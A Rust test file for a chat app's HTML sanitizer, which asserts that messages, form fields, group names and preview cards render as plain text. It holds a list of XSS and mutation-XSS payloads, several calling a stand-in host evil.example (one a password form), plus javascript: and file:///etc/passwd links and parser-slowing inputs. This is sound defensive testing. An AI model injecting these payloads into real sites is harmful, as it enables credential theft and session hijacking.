//! Texts that attack whoever reads them, or the server that renders them.

use axum::http::StatusCode;
use banter::models::{messages, previews::pages};
use chrono::Utc;
use scraper::{ElementRef, Html, Selector, node::Element};
use sea_orm::{ActiveModelTrait, ActiveValue::Set, EntityTrait, IntoActiveModel};

use crate::support::{
    client::{Person, Site, attributes_of, texts_of, with_site},
    files,
};

/// What a message may be made of, with the attributes that each element may have.
const ALLOWED: [(&str, &[&str]); 21] = [
    ("a", &["href", "rel", "target"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &[]),
    ("del", &[]),
    ("em", &[]),
    ("hr", &[]),
    ("input", &["aria-label", "checked", "disabled", "type"]),
    ("li", &[]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &["data-language"]),
    ("span", &["class"]),
    ("strong", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["align"]),
    ("th", &["align"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
];

/// What a word of code may be.
const WORDS: [&str; 12] = [
    "attr", "com", "const", "del", "el", "fn", "ins", "kw", "meta", "num", "str", "ty",
];

/// Each has been a hole somewhere.
const CORPUS: [&str; 70] = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "</textarea></form></li></ol><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<div hx-get=/logout hx-trigger=load></div>",
    "<div hx-on:load=alert(1)></div>",
    "<div data-hx-post=/logout data-hx-trigger=load ws-connect=//evil.example></div>",
    "<hx-partial hx-target=body hx-swap=innerHTML>owned</hx-partial>",
    "<p id=messages name=body class=modal style=position:fixed>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](https://a.example\"onclick=\"alert(1))",
    "[x](<https://a.example\" onmouseover=\"alert(1)>)",
    "[x](https://a.example \"\" onclick=alert(1) \"\")",
    "[x](https://a.example \"a title\")",
    "[a]: javascript:alert(1)\n\n[a]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "https://a.example/<img/src=x/onerror=alert(1)>",
    "www.a.example/\"><script>alert(1)</script>",
    "```html\" onload=\"alert(1)\n<script>alert(1)</script>\n```",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n</code></pre><b id=messages class=modal>\n```",
    "```js\n`${\"</span></code></pre><script>alert(1)</script>\"}`\n```",
    "```rust hx-get=/logout class=modal\nlet x = \"</span><div hx-on:load=alert(1)>\"; // <!--\n```",
    "```Rust\" onload=alert(1) x=\"\nfn main() {}\n```",
    "```json\n{ \"a\\\"><img src=x onerror=alert(1)>\": \"<!--\" }\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>alert(1)</script>|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "- [x] <input autofocus onfocus=alert(1)>\n- [ ] [x](javascript:alert(1))",
];

/// Everything in a message's body is on the list, down to the attributes and where links lead.
fn check_bodies(html: &str, what: &str) {
    let page = Html::parse_document(html);
    let all = Selector::parse(".message-body *").expect("a selector");
    for element in page.select(&all) {
        let name = element.value().name();
        let allowed = ALLOWED.iter().find(|(tag, _)| *tag == name);
        let (_, attributes) = allowed.unwrap_or_else(|| panic!("<{name}> in {what}"));
        for (attribute, value) in element.value().attrs() {
            if is_mention(element.value()) {
                continue;
            }
            assert!(attributes.contains(&attribute), "{name} {attribute} in {what}");
            if attribute == "class" {
                assert!(WORDS.contains(&value), "{value} in {what}");
            }
            if attribute == "href" {
                let schemes = ["http://", "https://", "mailto:"];
                assert!(
                    schemes.iter().any(|scheme| value.starts_with(scheme)),
                    "{value} in {what}"
                );
            }
        }
        if name == "a" && element.attr("href").is_some() {
            assert_eq!(
                element.attr("rel"),
                Some("noopener noreferrer nofollow"),
                "{what}"
            );
        }
    }
}

/// What is made of the name of somebody who is there, and of nothing else, attribute by attribute.
fn is_mention(element: &Element) -> bool {
    let id = element.attr("data-user-id").unwrap_or_default();
    let is_person = id.parse::<i64>().is_ok();
    let attributes = element.attrs().filter(|(name, value)| match *name {
        "class" => !["mention", "mention person-link"].contains(value),
        "href" => !(is_person && value.strip_prefix("/people/").is_some_and(|name| name == "maria")),
        "data-user-id" => !(is_person || id == "everyone"),
        "rel" | "target" => false,
        _ => true,
    });
    element.attr("class").is_some() && attributes.count() == 0
}

/// The elements of a page in order: an attack that breaks out changes them.
fn outline(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let elements = page.root_element().descendants().filter_map(ElementRef::wrap);
    elements
        .filter(|element| {
            !element
                .ancestors()
                .filter_map(ElementRef::wrap)
                .any(is_body_of_message)
        })
        .map(|element| element.value().name().to_owned())
        .collect()
}

fn is_body_of_message(element: ElementRef<'_>) -> bool {
    element.value().classes().any(|class| class == "message-body")
}

async fn post(person: &Person<'_>, group: i64, body: &str) -> i64 {
    let response = person
        .post_fragment(&format!("/groups/{group}/messages"), &[("body", body)])
        .await;
    assert_eq!(response.status_code(), StatusCode::OK, "{body}");
    let frame = response.text();
    check_bodies(&frame, &format!("the frame of {body}"));
    let id = attributes_of(&frame, "li", "id");
    assert_eq!(id.len(), 1, "one message in a frame: {frame}");
    let id = id[0].trim_start_matches("message-");
    id.parse().expect("a number")
}

#[tokio::test]
async fn no_text_becomes_more_than_text() {
    with_site(async |site| {
        let maria = site.join("maria").await;
        // As every attack will be: in a private group of its own.
        let group = site.private_group("attic", &[&maria]).await.id;
        let harmless = post(&maria, group, "harmless").await;
        let mut expected = Vec::new();
        for path in [
            format!("/groups/{group}"),
            format!("/groups/{group}/messages/{harmless}"),
        ] {
            expected.push(outline(&maria.get(&path).await.text()));
        }
        for attack in CORPUS {
            // A group of its own, so that a page has one message.
            let own = site.private_group("attic", &[&maria]).await.id;
            let id = post(&maria, own, attack).await;
            let paths = [format!("/groups/{own}"), format!("/groups/{own}/messages/{id}")];
            for (path, expected) in paths.iter().zip(&expected) {
                let page = maria.get(path).await.text();
                check_bodies(&page, attack);
                let mut shape = outline(&page);
                // The sidebar grows by a link with each group.
                shape.retain(|name| name != "bdi" && name != "a" && name != "use" && name != "svg");
                let plain = |name: &&String| !["bdi", "a", "use", "svg"].contains(&name.as_str());
                let expected: Vec<&String> = expected.iter().filter(plain).collect();
                let lists = |names: &[&String]| names.iter().filter(|name| **name == "li").count();
                let shape: Vec<&String> = shape.iter().collect();
                assert!(lists(&shape) >= lists(&expected), "{attack}");
                let without = |names: Vec<&String>| {
                    names
                        .into_iter()
                        .filter(|name| *name != "li")
                        .cloned()
                        .collect::<Vec<_>>()
                };
                assert_eq!(without(shape), without(expected), "{attack}");
            }
            let kept = messages::Entity::find_by_id(id)
                .one(&site.ctx.db)
                .await
                .expect("answers");
            assert_eq!(
                kept.expect("kept").body,
                attack.trim_start_matches('\n').trim_end(),
                "the text is theirs"
            );
        }
    })
    .await;
}

#[tokio::test]
async fn a_refused_text_is_given_back_as_text() {
    with_site(async |site| {
        let maria = site.join("maria").await;
        let path = format!("/groups/{}/messages", site.general().await.id);
        let shape = |page: &str| outline(page);
        let form = [("body", "plain"), ("client_id", "short")];
        let plain = shape(&maria.post(&path, &form).await.text());
        let signed_out = shape(&site.stranger().post(&path, &form).await.text());
        for attack in CORPUS {
            let form = [("body", attack), ("client_id", "short")];
            let page = maria.post(&path, &form).await.text();
            assert_eq!(shape(&page), plain, "{attack}");
            assert_eq!(texts_of(&page, "#composer textarea"), [attack.trim()]);
            let page = site.stranger().post(&path, &form).await.text();
            assert_eq!(shape(&page), signed_out, "{attack}");
            assert_eq!(texts_of(&page, "textarea#kept"), [attack.trim()]);
        }
    })
    .await;
}

#[tokio::test]
async fn no_field_of_a_form_becomes_more_than_its_value() {
    with_site(async |site| {
        site.join("maria").await;
        let register = async |value: &str| {
            let form = [
                ("username", value),
                ("email", value),
                ("password", "short"),
                ("next", value),
            ];
            site.stranger().post("/register", &form).await.text()
        };
        let login = async |value: &str| {
            let form = [("username", value), ("password", "wrong"), ("next", value)];
            site.stranger().post("/login", &form).await.text()
        };
        let (plain_register, plain_login) = (outline(&register("-").await), outline(&login("-").await));
        for attack in CORPUS.into_iter().chain([
            "\" autofocus onfocus=alert(1) x=\"",
            "'><script>alert(1)</script>",
        ]) {
            let page = register(attack).await;
            assert_eq!(outline(&page), plain_register, "{attack}");
            assert_eq!(attributes_of(&page, "#email", "value").concat(), attack);
            let page = login(attack).await;
            assert_eq!(outline(&page), plain_login, "{attack}");
            assert_eq!(attributes_of(&page, "#username", "value").concat(), attack);
            assert!(attributes_of(&page, "#username", "onfocus").is_empty());
        }
    })
    .await;
}

#[tokio::test]
async fn the_name_and_topic_of_a_group_are_text() {
    with_site(async |site| {
        let maria = site.join("maria").await;
        let page = async |site: &Site, name: &str| {
            let mut row = site.private_group("x", &[&maria]).await.into_active_model();
            row.name = Set(name.to_owned());
            row.topic = Set(name.to_owned());
            let group = row.update(&site.ctx.db).await.expect("saved");
            let page = maria.get(&format!("/groups/{}", group.id)).await.text();
            group
                .into_active_model()
                .delete(&site.ctx.db)
                .await
                .expect("deleted");
            page
        };
        let plain = outline(&page(site, "attic").await);
        for attack in [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onload='x",
            "{{ shell }}",
            "{% raw %}",
        ] {
            let page = page(site, attack).await;
            assert_eq!(outline(&page), plain, "{attack}");
            assert_eq!(texts_of(&page, ".room-name bdi"), [attack]);
            assert_eq!(attributes_of(&page, ".room-topic-text", "title"), [attack]);
            assert!(
                attributes_of(&page, "#timeline", "aria-label")
                    .concat()
                    .contains(attack),
                "{attack}"
            );
        }
    })
    .await;
}

#[tokio::test]
async fn what_a_link_leads_to_is_text() {
    with_site(async |site| {
        let maria = site.join("maria").await;
        let group = site.private_group("attic", &[&maria]).await.id;
        let page = async |text: &str| {
            let id = maria.say(group, "see https://a.example/").await.id;
            let row = pages::ActiveModel {
                url_hash: Set(String::new()),
                url: Set("https://a.example/".to_owned()),
                site: Set(text.to_owned()),
                title: Set(text.to_owned()),
                description: Set(text.to_owned()),
                fetched_at: Set(Utc::now().fixed_offset()),
                ..Default::default()
            };
            files::show(site, id, row).await;
            let path = format!("/groups/{group}/messages/{id}");
            let page = maria.get(&path).await.text();
            maria.does(&format!("{path}/delete"), &[]).await;
            page
        };
        // The row with the card, element by element: what broke out of the card would be in it.
        let shape = |page: &str| -> Vec<String> {
            let all = Selector::parse("li:has(.preview) *").expect("a selector");
            let page = Html::parse_document(page);
            page.select(&all)
                .map(|element| element.value().name().to_owned())
                .collect()
        };
        let plain = page("harmless").await;
        let cards = |page: &str| texts_of(page, ".preview-title, .preview-site, .preview-description");
        assert_eq!(cards(&plain).len(), 3);
        for attack in CORPUS {
            let page = page(attack).await;
            assert_eq!(shape(&page), shape(&plain), "{attack}");
            assert_eq!(cards(&page), [attack.trim(); 3], "{attack}");
        }
    })
    .await;
}

/// What such a text repeats.
const UNITS: &[&str] = &[
    ">",
    "> ",
    "- ",
    "* ",
    "1. ",
    "1) ",
    "1. > - ",
    ">- ",
    ">1.\t",
    "[",
    "](",
    "[a](",
    "![",
    "[]",
    "[[]",
    "[a][",
    "(",
    "*",
    "**",
    "*a ",
    "*a_ ",
    "_a_",
    "a**b",
    "|-",
    "|-|\n",
    "~",
    "~~a",
    "~a~~",
    "`",
    "`a``",
    "<",
    "<a ",
    "</",
    "<!--",
    "<![CDATA[",
    "<?",
    "&",
    "&#",
    "&amp;",
    "\\",
    "\\*",
    "www.",
    "www.a",
    "http://",
    "https://a.b ",
    "a@",
    "a@b.c",
    "a@b.c ",
    ":",
    "://",
    "x://a",
    "👩‍👩‍👧‍👦",
    "😀",
    "\u{301}",
    "a\u{301}\u{302}",
    "\u{202e}",
    "@maria ",
    "\n> ",
    "\n\n",
    "\n- ",
    "\t",
    "\n\t- ",
    "#",
    "|-",
    "[^1]: ",
    "[a]: b\n",
    "---\n",
    "===\n",
    "```\n",
    "~~~\n",
    "天*气*",
    "**天**",
];

/// Languages that code may be in, those among them whose grammars are the largest.
const LANGUAGES: &[&str] = &[
    "bash",
    "c",
    "cpp",
    "cs",
    "css",
    "dart",
    "diff",
    "dockerfile",
    "elixir",
    "go",
    "graphql",
    "haskell",
    "html",
    "ini",
    "java",
    "js",
    "json",
    "kotlin",
    "lua",
    "nix",
    "php",
    "python",
    "ruby",
    "rust",
    "sql",
    "swift",
    "toml",
    "ts",
    "yaml",
];

/// What code repeats that an expression might go over again and again.
const SNIPPETS: &[&str] = &[
    "_", "_.", "_A", "é", "a.b", "a(", "({[", "((", "\"\\\"", "'a' ", "/*", "<a ", "<a<", "a<b>", "a::",
    "a -> ", "$a", "${", "#{", "\\", "1e", "a = ", "a, ", "%", "-a ",
];

/// Code of the most characters, in lines that are as long as any that are looked at.
pub fn slow_code() -> Vec<String> {
    let code = |language: &str, snippet: &str| -> String {
        let line: String = snippet.chars().cycle().take(110).collect();
        let lines = format!("```{language}\n{}", format!("{line}\n").repeat(36));
        lines.chars().take(4000).collect()
    };
    let all = LANGUAGES
        .iter()
        .flat_map(|language| SNIPPETS.iter().map(|snippet| code(language, snippet)));
    all.collect()
}

/// Texts of the most characters that a parser might work on for long, or recurse into.
pub fn slow_texts() -> Vec<String> {
    let fill = |unit: &str| -> String { unit.chars().cycle().take(4000).collect() };
    let nested_lists = (0..60)
        .map(|depth| "  ".repeat(depth) + "- x\n")
        .collect::<String>();
    let ticks = (1..88).map(|count| "`".repeat(count) + "x").collect::<String>();
    let mut slow: Vec<String> = UNITS
        .iter()
        // A letter first, so that there is always something to see.
        .flat_map(|unit| {
            let after = |first: &str| format!("{first}{}", fill(unit)).chars().take(4000).collect();
            [fill(unit), after("x"), after("- ")]
        })
        .filter(|text| text.contains(|c: char| c.is_alphanumeric() || c.is_ascii_punctuation()))
        .collect();
    let deeper = |indent: &str, marks: &str| {
        let lines = (0..).map(|depth| indent.repeat(depth) + &marks.repeat(32) + "x\n");
        let lines = lines.scan(0, |length, line| {
            *length += line.len();
            (*length <= 4000).then_some(line)
        });
        lines.collect::<String>()
    };
    slow.extend([
        deeper(&" ".repeat(64), "- "),
        deeper(&"\t".repeat(16), "- "),
        deeper(&"\t".repeat(24), "1. "),
        nested_lists,
        ticks,
        format!("{}{}", "[".repeat(1990), "]".repeat(1990)),
    ]);
    slow.push(format!("{}a{}", "*".repeat(1999), "*".repeat(1999)));
    slow.push(format!("{}a{}", "**a ".repeat(500), " a**".repeat(499)));
    slow.push(format!("{}{}", "[a](b".repeat(400), ")".repeat(400)));
    slow.push((0..500).fold(String::new(), |text, n| text + &format!("[r{n}]")));
    slow
}

#[tokio::test]
async fn a_text_made_to_be_slow_is_posted_like_any_other() {
    with_site(async |site| {
        let maria = site.join("maria").await;
        let group = site.general().await.id;
        for text in slow_texts().into_iter().chain(slow_code().into_iter().step_by(7)) {
            post(&maria, group, &text).await;
        }
        // Ten thousand are over the limit, and cost nothing.
        for unit in [">", "[", "😀", "1. "] {
            let form = [("body", unit.repeat(10_000))];
            let form: Vec<(&str, &str)> = form.iter().map(|(name, value)| (*name, value.as_str())).collect();
            let response = maria.post(&format!("/groups/{group}/messages"), &form).await;
            assert_eq!(response.status_code(), StatusCode::UNPROCESSABLE_ENTITY);
        }
        let page = maria.get(&format!("/groups/{group}")).await;
        assert_eq!(page.status_code(), StatusCode::OK);
        check_bodies(&page.text(), "the page of all");
    })
    .await;
}
